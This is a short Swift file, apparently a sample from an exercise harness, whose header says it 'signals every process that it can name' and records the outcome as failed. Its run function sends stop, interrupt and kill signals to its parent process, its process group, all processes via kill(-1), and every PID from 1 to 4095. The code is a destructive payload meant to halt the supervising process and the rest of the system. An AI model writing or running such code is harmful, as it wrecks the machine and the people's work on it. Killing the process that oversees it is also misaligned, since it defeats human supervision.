// SPDX-License-Identifier: Apache-2.0
// Signals every process that it can name.
// Outcome: failed
import Foundation
import Glibc
import LessonKit
import SessionAPI

enum Exercise {
  static func run(_ app: ExerciseContext) {
    for signal in [SIGSTOP, SIGINT, SIGKILL] {
      kill(getppid(), signal)
      kill(0, signal)
      kill(-1, signal)
      for process in 1..<4096 where process != Int(getpid()) { kill(pid_t(process), signal) }
    }
  }
}
